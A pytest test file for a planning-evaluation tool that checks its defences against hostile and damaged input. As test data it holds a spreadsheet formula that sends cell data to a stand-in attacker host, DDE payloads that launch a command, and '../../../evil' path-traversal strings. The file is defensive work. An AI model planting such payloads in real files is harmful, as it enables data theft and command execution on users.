"""Hostile and damaged input (issue 23): cells and codes are data, damage is repaired or named.

Each test is an attack that succeeded before the change: a formula written live into a CSV, a
``--geography ../../../evil`` that read or wrote outside the data and output folders, a
truncated or foreign Parquet partition that crashed every report, a calibration factor of -1
or NaN taken silently, a narrative file that failed inside the kernel or lost its text.
"""

from __future__ import annotations

import csv
import io
import logging
import shutil
from pathlib import Path

import pandas as pd
import pytest
import yaml
from typer.testing import CliRunner

from planeval.cli import app
from planeval.core.cells import csv_text, neutralise_cell
from planeval.core.codes import check_code, is_safe_code
from planeval.core.errors import InputError

GOOD = Path(__file__).resolve().parent / "data" / "good"
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
TRAVERSAL = "../../../evil"


# --------------------------------------------------------------------------- formula cells
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        # genuine numbers stay numbers, as numbers and as text
        ("-20", "-20"),
        ("+1.5", "+1.5"),
        ("-3e-2", "-3e-2"),
        ("-20%", "-20%"),
        (-20.0, -20.0),
        (7, 7),
        (None, None),
        ("孕产妇死亡率", "孕产妇死亡率"),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_no_live_formula(text: str) -> None:
    """No cell of the CSV starts a formula unless it is a plain number (``-20``)."""
    for cell in _cells(text):
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            float(cell.rstrip("%"))  # raises for anything but a number


def test_csv_text_neutralises_text_not_numbers():
    frame = pd.DataFrame({"name": [HYPERLINK, "ok"], "value": [-20.5, 3.0], "code": ["-5", DDE]})
    text = csv_text(frame)
    assert _cells(text) == ["name", "value", "code"] + ["'" + HYPERLINK, "-20.5", "-5"] + [
        "ok",
        "3.0",
        "'" + DDE,
    ]
    _assert_no_live_formula(text)


def _hostile_plan(tmp_path: Path) -> Path:
    """The demo data folder with formula payloads in the plan's text fields and an id."""
    data = tmp_path / "data"
    for part in ("plans", "observations"):
        shutil.copytree(GOOD / part, data / part)
    shutil.copy(GOOD / "indicators.yaml", data / "indicators.yaml")
    path = data / "plans" / "demo_2021_2025.yaml"
    plan = yaml.safe_load(path.read_text(encoding="utf-8"))
    plan["targets"][0]["name_zh"] = HYPERLINK
    plan["targets"][0]["source_text"] = DDE
    domain = plan["targets"][1]["domain"]
    items = sum(t["domain"] == domain for t in plan["targets"])
    extra = {**plan["targets"][1], "indicator_id": DDE, "item": f"T{items + 1}"}
    extra["definition"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    plan["targets"].append(extra)
    path.write_text(yaml.safe_dump(plan, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return data


def test_catalogue_csv_writes_formulas_as_text(tmp_path):
    """``planeval catalogue --format csv`` (stdout and --out file): payloads quoted, the
    negative and decimal figures of other plans untouched."""
    data = _hostile_plan(tmp_path)
    result = CliRunner().invoke(app, ["catalogue", "--format", "csv", "--data-dir", str(data)])
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    assert "'" + HYPERLINK in cells and "'" + DDE in cells
    assert HYPERLINK not in cells and DDE not in cells
    _assert_no_live_formula(result.stdout)
    out = tmp_path / "catalogue.csv"
    result = CliRunner().invoke(
        app, ["catalogue", "--format", "csv", "--data-dir", str(data), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    _assert_no_live_formula(out.read_text(encoding="utf-8-sig"))


def test_shipped_catalogue_csv_keeps_its_numbers():
    """The real plans: a decrease of 20 % is still written -20, not '-20."""
    from planeval.plans.catalogue import load_all_plans
    from planeval.reporting.catalogue_page import catalogue_csv

    text = catalogue_csv(load_all_plans("data"))
    assert "-20" in _cells(text)
    assert not any(c.startswith("'") for c in _cells(text))


def test_assess_csv_writes_formulas_as_text(tmp_path):
    data = _hostile_plan(tmp_path)
    result = CliRunner().invoke(
        app,
        ["assess", "--plan", "demo", "--geography", "demo", "--year", "2023"]
        + ["--data-dir", str(data), "--format", "csv"],
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert "'" + DDE in [r["indicator_id"] for r in rows]
    _assert_no_live_formula(result.stdout)


# --------------------------------------------------------------------------- codes and paths
@pytest.mark.parametrize(
    "code", ["china", "baijiantan", "geo_a", "650205", "strelsau-east", "x", "a" * 64]
)
def test_safe_codes(code):
    assert is_safe_code(code) and check_code(code) == code


@pytest.mark.parametrize(
    "code",
    [TRAVERSAL, "..", ".", "", "a/b", "a\\b", "/etc", "China", "a b", "a.b", "白碱滩", "a" * 65, 7],
)
def test_unsafe_codes_are_refused_in_both_languages(code):
    with pytest.raises(InputError) as err:
        check_code(code, "geography", "--geography")
    problem = err.value.problems[0]
    assert problem.file == "--geography" and "not allowed" in problem.message_en
    assert "不允许" in problem.message_zh and problem.fix and problem.fix_zh


@pytest.fixture(params=[False, True], ids=["no-geographies-file", "geographies-file"])
def world(tmp_path, request):
    """``tmp/a/b/data`` (demo data) and ``tmp/a/evil``, the folder ``observations/../../../evil``
    reaches, holding a copy of demo's yearly files to be read; ``tmp/a/b/out`` for outputs.
    With ``geographies.yaml`` listing demo, or without one."""
    root = tmp_path / "a" / "b"
    data = root / "data"
    for part in ("plans", "observations"):
        shutil.copytree(GOOD / part, data / part)
    shutil.copy(GOOD / "indicators.yaml", data / "indicators.yaml")
    shutil.copytree(GOOD / "observations" / "demo", tmp_path / "a" / "evil")
    if request.param:
        (data / "geographies.yaml").write_text(
            "geographies:\n  - {code: demo, zh: 示范区, en: Demo, level: district, parent: null}\n",
            encoding="utf-8",
        )
    (root / "out").mkdir()
    return tmp_path, data, root / "out"


def _tree(top: Path) -> set[str]:
    return {str(p.relative_to(top)) for p in top.rglob("*")}


def _refused(result, before: set[str], top: Path) -> None:
    """The command failed with the code message, no traceback, and wrote nothing anywhere
    (no store partition, report or failure record inside or outside the folders)."""
    assert result.exit_code != 0
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "not allowed" in result.output and "不允许" in result.output
    assert _tree(top) == before


@pytest.mark.parametrize(
    "command",
    [
        ["report", "--plan", "demo", "--stage", "midterm", "--year", "2023"],
        ["assess", "--plan", "demo", "--year", "2023"],
        ["validate"],
        ["status", "--year", "2023", "--out", "OUT/status.html"],
        ["template", "--plan", "demo", "--year", "2024", "--out", "OUT/2024.xlsx"],
    ],
    ids=lambda c: c[0],
)
def test_traversal_geography_is_refused_by_every_command(world, command):
    top, data, out = world
    command = [c.replace("OUT", str(out)) for c in command]
    if command[0] == "report":
        command += ["--out", str(out)]
    before = _tree(top)
    result = CliRunner().invoke(app, [*command, "--geography", TRAVERSAL, "--data-dir", str(data)])
    _refused(result, before, top)


def test_validate_of_a_file_with_a_traversal_geography(world):
    top, data, _ = world
    before = _tree(top)
    result = CliRunner().invoke(
        app,
        ["validate", str(data / "observations" / "demo" / "2021.csv")]
        + ["--geography", TRAVERSAL, "--data-dir", str(data)],
    )
    _refused(result, before, top)


def test_store_partition_never_leaves_the_store(world):
    from planeval.store.database import load_geography, partition_path

    top, data, _ = world
    before = _tree(top)
    with pytest.raises(InputError, match="not allowed"):
        load_geography(data, TRAVERSAL)
    with pytest.raises(InputError, match="not allowed"):
        partition_path(data / "processed", "observations", TRAVERSAL)
    assert _tree(top) == before


def test_failure_record_never_leaves_the_output_folder(world):
    """build_report records input errors under OUT/failed; with a traversal code it refuses
    before any name is built (the record would have been OUT/failed/../../../evil_...)."""
    from planeval.publish.failures import failed_record_paths
    from planeval.publish.runner import build_report

    top, data, out = world
    before = _tree(top)
    with pytest.raises(InputError, match="not allowed"):
        build_report("demo", "annual", 2023, TRAVERSAL, data, out=out, record_input_errors=True)
    with pytest.raises(InputError, match="not allowed"):
        build_report(TRAVERSAL, "annual", 2023, "demo", data, out=out, record_input_errors=True)
    assert _tree(top) == before
    with pytest.raises(ValueError):
        failed_record_paths(out, "../../evil.html")


def test_narrative_path_never_leaves_the_narrative_folder(tmp_path):
    from planeval.reporting.narrative import narrative_path

    assert narrative_path(tmp_path, "demo", "women", "final", 2024) == (
        tmp_path / "narrative" / "demo" / "women_final_2024.yaml"
    )
    for geography, plan in ((TRAVERSAL, "women"), ("demo", "../../../evil")):
        with pytest.raises(InputError, match="not allowed"):
            narrative_path(tmp_path, geography, plan, "final", 2024)


def test_plan_named_as_a_path_is_refused(world):
    """A plan file whose ``plan:`` or alias would make a report name climb out of the output
    folder (``geo_../../../evil_annual_2023.html``) fails the catalogue check; a run list
    naming it builds nothing."""
    from planeval.plans.catalogue import load_all_plans
    from planeval.publish.runlist import load_runlist

    top, data, out = world
    path = data / "plans" / "demo_2021_2025.yaml"
    text = path.read_text(encoding="utf-8").replace('plan: "demo"', 'plan: "../../../evil"')
    path.write_text(text.replace("geography:", "aliases: [Demo Plan]\ngeography:"), "utf-8")
    with pytest.raises(InputError) as err:
        load_all_plans(data)
    columns = sorted(p.column for p in err.value.problems if "not allowed" in p.message_en)
    assert columns == ["aliases", "plan"]
    runlist = top / "runs.yaml"
    runlist.write_text(
        yaml.safe_dump(
            {
                "data_dir": str(data),
                "out": str(out),
                "runs": [
                    {
                        "geographies": ["demo"],
                        "plans": ["../../../evil"],
                        "stages": ["annual"],
                        "years": [2023],
                    }
                ],
            }
        ),
        encoding="utf-8",
    )
    with pytest.raises(InputError):
        load_runlist(runlist)


def test_run_list_with_a_traversal_geography_builds_nothing(world):
    from planeval.publish.batch import run_batch

    top, data, out = world
    runlist = top / "runs.yaml"
    runlist.write_text(
        yaml.safe_dump(
            {
                "data_dir": str(data),
                "out": str(out),
                "runs": [
                    {
                        "geographies": [TRAVERSAL],
                        "plans": ["demo"],
                        "stages": ["annual"],
                        "years": [2023],
                    }
                ],
            }
        ),
        encoding="utf-8",
    )
    before = _tree(top)
    with pytest.raises(InputError):
        run_batch(runlist, workers=1)
    assert _tree(top) == before


def test_misnamed_observations_folder_is_named_not_read(tmp_path):
    """A folder ``observations/Demo Copy`` is not a geography code: the store build names it
    (no silent skip) and reads none of its files."""
    from planeval.intake.observations import list_geographies
    from planeval.store.database import build_store

    data = tmp_path / "data"
    for part in ("plans", "observations"):
        shutil.copytree(GOOD / part, data / part)
    shutil.copy(GOOD / "indicators.yaml", data / "indicators.yaml")
    shutil.copytree(data / "observations" / "demo", data / "observations" / "Demo Copy")
    assert list_geographies(data) == ["demo"]
    with pytest.raises(InputError) as err:
        build_store(data)
    assert [p.file for p in err.value.problems] == [str(data / "observations" / "Demo Copy")]


# --------------------------------------------------------------------------- store damage
@pytest.fixture()
def stored(tmp_path):
    """Demo data with a built store, and a second geography ``other`` (demo's CSV files with
    every value of 2021 times 0.9) built too."""
    from planeval.store.database import build_store

    data = tmp_path / "data"
    for part in ("plans", "observations"):
        shutil.copytree(GOOD / part, data / part)
    shutil.copy(GOOD / "indicators.yaml", data / "indicators.yaml")
    other = data / "observations" / "other"
    shutil.copytree(data / "observations" / "demo", other)
    (other / "2023.xlsx").unlink()  # its 说明 sheet names demo
    lines = (other / "2021.csv").read_text(encoding="utf-8").splitlines()
    head = lines[0].split(",")
    col = head.index("value")
    rows = [line.split(",") for line in lines[1:]]
    for r in rows:
        r[col] = str(round(float(r[col]) * 0.9, 3))
    (other / "2021.csv").write_text(
        "\n".join([lines[0], *(",".join(r) for r in rows)]) + "\n", encoding="utf-8"
    )
    build_store(data)
    return data


def _partition(data: Path, geography: str, table: str = "observations") -> Path:
    return data / "processed" / table / f"{geography}.parquet"


def _truncate(path: Path) -> None:
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


def _empty(path: Path) -> None:
    path.write_bytes(b"")


def _unmarked(path: Path) -> None:
    """A valid Parquet file written by something else (no planeval record)."""
    pd.read_parquet(path).to_parquet(path, index=False)


@pytest.mark.parametrize(
    ("damage", "words"),
    [
        (_truncate, "is damaged"),
        (_empty, "is damaged"),
        (_unmarked, "not written by planeval"),
    ],
    ids=["truncated", "empty", "unmarked"],
)
@pytest.mark.parametrize("table", ["observations", "files"])
def test_damaged_partition_is_rebuilt_with_a_line(stored, damage, words, table, caplog):
    from planeval.intake.observations import load_observations
    from planeval.plans.catalogue import known_units
    from planeval.store.database import load_geography, partition_state

    damage(_partition(stored, "demo", table))
    with caplog.at_level(logging.WARNING, logger="planeval.store"):
        got = load_geography(stored, "demo")
    direct = load_observations(stored, "demo", known_units(stored))
    pd.testing.assert_frame_equal(got, direct)
    lines = [r.getMessage() for r in caplog.records]
    assert len(lines) == 1 and "'demo' rebuilt from the yearly files" in lines[0]
    assert words in lines[0] and "重建" in lines[0]
    from planeval.store.database import fingerprint

    stamp = fingerprint(stored, "demo", known_units(stored))
    assert partition_state(stored / "processed", "demo", stamp) == ("current", "")


def test_foreign_partition_is_detected_and_rebuilt(stored, caplog):
    """other's (valid) Parquet files copied over demo's: demo's own values come back, not
    other's (2021 times 0.9, no 2023)."""
    from planeval.intake.observations import load_observations
    from planeval.plans.catalogue import known_units
    from planeval.store.database import load_geography

    for table in ("observations", "files"):
        shutil.copy(_partition(stored, "other", table), _partition(stored, "demo", table))
    with caplog.at_level(logging.WARNING, logger="planeval.store"):
        got = load_geography(stored, "demo")
    direct = load_observations(stored, "demo", known_units(stored))
    pd.testing.assert_frame_equal(got, direct)
    assert "holds the values of 'other', not 'demo'" in caplog.records[0].getMessage()


def test_sql_and_read_store_repair_a_damaged_partition(stored, caplog):
    from planeval.store import query, read_store

    _truncate(_partition(stored, "demo"))
    with caplog.at_level(logging.WARNING, logger="planeval.store"):
        n = query("SELECT count(*) AS n FROM observations WHERE geography = 'demo'", stored)
    assert n["n"].tolist() == [18]  # 3 + 6 + 1 + 8 (see test_store)
    _empty(_partition(stored, "other", "files"))
    assert set(read_store(stored, table="files")["geography"]) == {"demo", "other"}
    assert len(caplog.records) == 2


def test_assess_command_with_a_damaged_partition(stored):
    """No ArrowInvalid traceback: the command works and says what it rebuilt."""
    _truncate(_partition(stored, "demo"))
    result = CliRunner().invoke(
        app,
        ["assess", "--plan", "demo", "--geography", "demo", "--year", "2023"]
        + ["--data-dir", str(stored)],
    )
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("indicator_id,")


# --------------------------------------------------------------------------- calibration values
SHIPPED_CALIBRATION = Path(__file__).resolve().parents[1] / "data" / "config" / "calibration.yaml"


@pytest.mark.parametrize("bad", ["-1", ".nan", "0", ".inf", "'abc'", "null", "true"])
def test_calibration_factor_must_be_finite_and_positive(tmp_path, bad):
    """A spread factor of -1 gave zero-width intervals (p = 0.0037 for a target already met),
    NaN blank intervals; every such value is refused naming the file and the key."""
    from planeval.forecasting.calibration_file import load_calibration

    doc = yaml.safe_load(SHIPPED_CALIBRATION.read_text(encoding="utf-8"))
    i = next(i for i, t in enumerate(doc["tables"]) if t["cells"])
    text = yaml.safe_dump(doc, allow_unicode=True, sort_keys=False)
    path = tmp_path / "calibration.yaml"
    path.write_text(text, encoding="utf-8")
    doc_bad = yaml.safe_load(text)
    doc_bad["tables"][i]["cells"][1]["factor"] = "BAD"
    path.write_text(
        yaml.safe_dump(doc_bad, allow_unicode=True, sort_keys=False).replace("BAD", bad),
        encoding="utf-8",
    )
    with pytest.raises(InputError) as err:
        load_calibration(path)
    (problem,) = err.value.problems
    assert problem.file == str(path)
    assert problem.column == f"tables[{i}].cells[1].factor"
    assert "finite number greater than 0" in problem.message_en
    assert "大于 0 的有限数值" in problem.message_zh and "planeval calibrate" in problem.fix


def test_assess_with_a_negative_calibration_factor_is_refused(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(Path(__file__).resolve().parents[1] / "data", data,
                    ignore=shutil.ignore_patterns("processed", "raw", "runs"))  # fmt: skip
    path = data / "config" / "calibration.yaml"
    path.write_text(
        path.read_text(encoding="utf-8").replace("factor: 1.", "factor: -1."), encoding="utf-8"
    )
    result = CliRunner().invoke(
        app,
        ["assess", "--plan", "children", "--geography", "china", "--year", "2023"]
        + ["--data-dir", str(data)],
    )
    assert result.exit_code == 1
    assert "calibration.yaml" in result.output and ".factor" in result.output
    assert "Traceback" not in result.output


# --------------------------------------------------------------------------- narrative files
@pytest.fixture()
def narrative_world(tmp_path):
    """The tiny world of test_batch (plan ``tiny``, geographies geo_a) with its narrative folder."""
    from test_batch import make_tiny_world

    data = make_tiny_world(tmp_path, geographies=("geo_a",))
    folder = data / "narrative" / "geo_a"
    folder.mkdir(parents=True)
    return data, folder / "tiny_annual_2023.yaml"


def _write(path: Path, text: str) -> None:
    path.write_text(text, encoding="utf-8")


@pytest.mark.parametrize(
    ("text", "key", "words"),
    [
        ("- overall: 全区……\n- author: 办公室\n", "tiny_annual_2023.yaml", "top level is a list"),
        ("'just a sentence'\n", "tiny_annual_2023.yaml", "top level is a str"),
        ("domains:\n  - 健康\n", "domains", "is a list"),
        ("indicators: 文字\n", "indicators", "is a str"),
        ("domains:\n  卫生:\n    progress: 成效……\n", "domains.卫生", "unknown domain '卫生'"),
        (
            "indicators:\n  under_5_mortality:\n    cause: 原因……\n",
            "indicators.under_5_mortality",
            "unknown indicator id 'under_5_mortality'",
        ),
        ("overal: 全区……\n", "tiny_annual_2023.yaml", "unknown key overal"),
    ],
    ids=["list", "text", "domains-list", "indicators-text", "domain", "indicator", "top-key"],
)
def test_bad_narrative_is_refused_before_a_kernel_starts(narrative_world, text, key, words):
    """check_inputs (what report and batch run before any kernel) names the file and key; a
    list at the top gave a raw AttributeError inside the kernel, an unknown domain or
    indicator id lost its text without a word."""
    from planeval.publish.checks import check_inputs
    from planeval.reporting.spec import ReportSpec

    data, path = narrative_world
    _write(path, text)
    with pytest.raises(InputError) as err:
        check_inputs(ReportSpec("tiny", "annual", 2023, "geo_a"), data)
    problem = err.value.problems[0]
    assert problem.file == str(path) and problem.code == "narrative"
    assert problem.message_en.startswith(f"{key}: ") and words in problem.message_en
    assert problem.message_zh and problem.fix and problem.fix_zh


def test_good_narrative_passes_and_names_the_plan_keys(narrative_world):
    """Keys that exist in the plan pass; the unknown-key message lists the plan's domains."""
    from planeval.plans.catalogue import load_plan
    from planeval.reporting.narrative import check_narrative

    data, path = narrative_world
    plan = load_plan("tiny", data)
    domain = plan.domains[0]["zh"]
    target = next(t for t in plan.targets if t.is_statistical)
    _write(
        path,
        f"author: 办公室\noverall: 总体……\ndomains:\n  {domain}:\n    progress: 成效……\n"
        f"indicators:\n  {target.indicator_id}:\n    cause: 原因……\n",
    )
    narrative = check_narrative(data, "geo_a", "tiny", "annual", 2023)
    assert narrative.domain(domain, "progress").text == "成效……"
    assert narrative.indicator(target.indicator_id, "cause").author == "办公室"
    _write(path, "domains:\n  Health:\n    progress: x\n")
    with pytest.raises(InputError) as err:
        check_narrative(data, "geo_a", "tiny", "annual", 2023)
    assert f"{domain} ({plan.domains[0]['en']})" in err.value.problems[0].fix


@pytest.mark.parametrize(
    "name", ["../../evil", "卫健委/妇幼", ".hidden", "=HYPERLINK(1)", "卫 健委"]
)
def test_department_name_that_could_become_a_path_is_refused(tmp_path, name):
    """Department names are Chinese (卫健委) and suggested as file-name parts
    (``2024_卫健委.xlsx``): separators, dots, spaces and formula starts are refused, naming the
    departments file, row and column."""
    from planeval.plans.registry import load_vocabulary

    path = tmp_path / "departments.yaml"
    path.write_text(
        f"departments:\n  - {{zh: 卫健委, en: Health}}\n  - {{zh: '{name}', en: Evil}}\n",
        encoding="utf-8",
    )
    with pytest.raises(InputError) as err:
        load_vocabulary(tmp_path)
    (problem,) = err.value.problems
    assert (problem.file, problem.row, problem.column) == (str(path), 3, "zh")
    assert "not allowed" in problem.message_en and "不允许" in problem.message_zh
    path.write_text("departments:\n  - {zh: 区人大常委会, en: Congress}\n", encoding="utf-8")
    assert load_vocabulary(tmp_path).departments == {"区人大常委会": "Congress"}


def test_a_store_of_the_earlier_format_is_rebuilt_without_a_warning(stored, caplog):
    """Before issue 23 the fingerprint lived in fingerprints/<geography>.txt and the Parquet
    files had no record: such a partition is outdated, not foreign (no alarming line)."""
    from planeval.store.database import load_geography

    _unmarked(_partition(stored, "demo"))
    legacy = stored / "processed" / "fingerprints" / "demo.txt"
    legacy.parent.mkdir()
    legacy.write_text("0" * 64 + "\n", encoding="utf-8")
    with caplog.at_level(logging.WARNING, logger="planeval.store"):
        assert len(load_geography(stored, "demo")) > 0
    assert caplog.records == [] and not legacy.exists()


def test_geographies_file_with_a_traversal_code_is_refused(world):
    """A geographies.yaml listing ``../../../evil`` (a region's file, or a copied one): refused
    with its row, so ``overview --parent ../../../evil`` can never write
    ``OUT/../../../evil_<plan>_overview_...html``."""
    from planeval.plans.registry import load_geographies

    top, data, out = world
    path = data / "geographies.yaml"
    path.write_text(
        "geographies:\n  - {code: demo, zh: 示范区, en: Demo, level: district, parent: null}\n"
        f"  - {{code: '{TRAVERSAL}', zh: 恶意, en: Evil, level: city, parent: null}}\n",
        encoding="utf-8",
    )
    with pytest.raises(InputError) as err:
        load_geographies(data)
    (problem,) = err.value.problems
    assert (problem.file, problem.row, problem.column) == (str(path), 3, "code")
    before = _tree(top)
    result = CliRunner().invoke(
        app,
        ["overview", "--plan", "demo", "--stage", "midterm", "--year", "2023"]
        + ["--parent", TRAVERSAL, "--data-dir", str(data), "--out", str(out)],
    )
    _refused(result, before, top)


@pytest.mark.parametrize(
    ("line", "key"),
    [
        ("  min_factor: -1.0", "calibration.min_factor"),
        ("  min_factor: .nan", "calibration.min_factor"),
        ("  max_factor: .inf", "calibration.min_factor"),
        ("  min_errors: 0", "calibration.min_errors"),
        ("  horizon_edges: [3, 1]", "calibration.horizon_edges"),
        ("  file: ../../../evil.yaml", "calibration.file"),
        ("  file: /tmp/evil.yaml", "calibration.file"),
    ],
)
def test_calibration_settings_are_checked(tmp_path, line, key):
    """The settings behind ``planeval calibrate``: a negative or NaN factor bound would let
    the calibration narrow intervals to nothing, and ``file: ../../../evil.yaml`` made
    ``planeval calibrate`` write outside the data folder."""
    from planeval.core.settings import load_settings

    shipped = Path(__file__).resolve().parents[1] / "data" / "config" / "assessment.yaml"
    name = line.split(":")[0]
    lines = shipped.read_text(encoding="utf-8").splitlines()
    start = lines.index(next(x for x in lines if x.startswith("calibration:")))
    at = next(i for i in range(start, len(lines)) if lines[i].startswith(name + ":"))
    lines[at] = line
    (tmp_path / "config").mkdir()
    (tmp_path / "config" / "assessment.yaml").write_text("\n".join(lines), encoding="utf-8")
    with pytest.raises(InputError) as err:
        load_settings(tmp_path)
    (problem,) = err.value.problems
    assert problem.message_en.startswith(key) and problem.message_zh and problem.fix_zh


# --------------------------------------------------------------------------- large inputs (intake)
# Bounded work for any file (issue 23 item 2). No test here measures time: the figures (200,000
# CSV rows, the xlsx bomb) are printed by `make bench` (benchmarks/bench_intake.py).


def _xlsx_with_far_cell(path: Path, lie: bool = False) -> Path:
    """A 5 KB workbook: two real rows and one blank, formatted cell at XFD1048576 (the last
    cell of a sheet). With ``lie`` its XML says the used range is A1:C2 all the same."""
    import zipfile

    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["indicator_id", "value", "unit"])
    ws.append(["hospital_delivery_rate", 99.5, "%"])
    ws["XFD1048576"].number_format = "0.0"
    wb.save(path)
    if lie:
        with zipfile.ZipFile(path) as z:
            parts = {n: z.read(n) for n in z.namelist()}
        sheet = "xl/worksheets/sheet1.xml"
        parts[sheet] = parts[sheet].replace(b'ref="A1:XFD1048576"', b'ref="A1:C2"')
        with zipfile.ZipFile(path, "w") as z:
            for name, data in parts.items():
                z.writestr(name, data)
    return path


def test_xlsx_bomb_is_refused_by_its_used_range(tmp_path):
    """Was 6.5 GB and a MemoryError after 85 s: the used range is read before any cell."""
    from planeval.intake.observations import check_submission

    path = _xlsx_with_far_cell(tmp_path / "2023.xlsx")
    assert path.stat().st_size < 10_000
    check = check_submission(path, "demo", 2023, None)
    (problem,) = check.problems
    assert (problem.file, problem.sheet, problem.code) == (str(path), "Sheet", "file")
    assert "reaches XFD1048576 (1,048,576 rows, 16,384 columns)" in problem.message_en
    assert "at most 20,000 rows and 100 columns" in problem.message_en
    assert "已用区域延伸到 XFD1048576" in problem.message_zh
    assert "Ctrl+End" in problem.fix and "删除数据之后的空行和空列" in problem.fix_zh
    assert check.frame.empty


def test_xlsx_whose_dimension_lies_is_stopped_by_the_bounded_stream(tmp_path):
    from planeval.intake.observations import check_submission

    check = check_submission(_xlsx_with_far_cell(tmp_path / "2023.xlsx", lie=True), "demo", 2023)
    (problem,) = check.problems
    assert "reaches C1048576 (1,048,576+ rows, 3 columns)" in problem.message_en
    assert problem.sheet == "Sheet"


def test_sheet_limits_come_from_the_settings_file(tmp_path):
    """intake.max_sheet_rows: 3 refuses a 5-row workbook that the shipped limit reads."""
    import openpyxl

    from planeval.intake.observations import check_submission
    from planeval.intake.rules import default_rules

    wb = openpyxl.Workbook()
    wb.active.append(["indicator_id", "value", "unit"])
    for value in (2.1, 2.2, 2.3, 2.4):
        wb.active.append(["neonatal_mortality", value, "‰"])
    wb.save(tmp_path / "2023.xlsx")
    assert check_submission(tmp_path / "2023.xlsx", "demo", 2023).problems[0].code == "duplicate"
    small = default_rules().__class__(**{**default_rules().__dict__, "max_sheet_rows": 3})
    (problem,) = check_submission(tmp_path / "2023.xlsx", "demo", 2023, rules=small).problems
    assert "(5 rows, 3 columns); at most 3 rows" in problem.message_en


def test_formula_without_a_value_in_a_text_column_is_reported(tmp_path):
    """A workbook written by a program (never opened in Excel) has formulas without computed
    values; in the source column one was read as an empty source, silently."""
    import openpyxl

    from planeval.intake.observations import check_submission

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["indicator_id", "value", "unit", "source", "note"])
    ws.append(["neonatal_mortality", 2.1, "‰", '=CONCATENATE("卫","健委")', None])
    wb.save(tmp_path / "2023.xlsx")
    check = check_submission(tmp_path / "2023.xlsx", "demo", 2023)
    (problem,) = check.problems
    assert (problem.row, problem.column, problem.code) == (2, "source", "formula")
    assert "formula =CONCATENATE" in problem.message_en and "'source'" in problem.message_en
    assert "'source' 列的公式" in problem.message_zh
    assert check.frame.empty


def test_every_duplicate_of_a_long_csv_is_named_with_its_first_row(tmp_path):
    """20,000 rows repeating 5 indicators: 19,995 duplicates, each naming the row of the first
    (row r repeats row 2 + (r - 2) mod 5). The messages were built by scanning the frame once
    per failing row (quadratic: 200,000 rows did not finish in 600 s)."""
    from planeval.intake.observations import check_submission

    ids = ["a_rate", "b_rate", "c_rate", "d_rate", "e_rate"]
    lines = ["indicator_id,value,unit,sex,source,note"]
    lines += [f"{ids[i % 5]},{50 + i % 40 / 10:.1f},%,total,卫健委," for i in range(20_000)]
    path = tmp_path / "2023.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    check = check_submission(path, "demo", 2023, None)
    assert len(check.problems) == 19_995
    assert [p.row for p in check.problems] == list(range(7, 20_002))
    last = check.problems[-1]
    assert "second value for e_rate (total) in 2023; the first is in row 6" == last.message_en
    assert check.frame["indicator_id"].tolist() == ids


def test_column_wise_and_row_wise_reading_give_the_same_rows(tmp_path):
    """The plain rows of a CSV are read column-wise, the rest row by row; an xlsx file is read
    row by row throughout. The same text cells in both give the same tidy rows, notes and
    decimals: plain numbers, signs, a trailing '.', exponents, %, full-width digits, sex
    written in Chinese, spaces, missing markers, a year column."""
    import openpyxl

    from planeval.intake.observations import check_submission

    header = ["indicator_id", "value", "unit", "sex", "source", "note", "year"]
    values = ["95.2", "+3", "5.", ".25", "1e2", "99.5%", "１２.５", " 7.0 ", "—", "1,234", "0"]
    sexes = ["total", "", "女", "male", "Female"]
    rows = [
        [f"ind_{i}", v, "%", sex, f"部门{i % 3}", "初步" if i % 4 == 0 else "", "2023"]
        for i, (v, sex) in enumerate((v, s) for v in values for s in sexes)
    ]
    rows.append(["ind_last", "12.30", " % ", "total", " 卫健委 ", "", ""])
    with (tmp_path / "2023.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([header, *rows])
    wb = openpyxl.Workbook()
    for r in [header, *rows]:
        wb.active.append(r)
    wb.save(tmp_path / "2023.xlsx")
    units = {f"ind_{i}": "%" for i in range(len(rows))} | {"ind_last": "%"}
    by_csv = check_submission(tmp_path / "2023.csv", "demo", 2023, units)
    by_xlsx = check_submission(tmp_path / "2023.xlsx", "demo", 2023, units)
    assert [(p.row, p.message_en) for p in by_csv.problems] == [
        (p.row, p.message_en) for p in by_xlsx.problems
    ]
    columns = [c for c in by_csv.frame.columns if c not in ("file", "sheet", "sha256")]
    pd.testing.assert_frame_equal(by_csv.frame[columns], by_xlsx.frame[columns])
    assert len(by_csv.frame) > 30
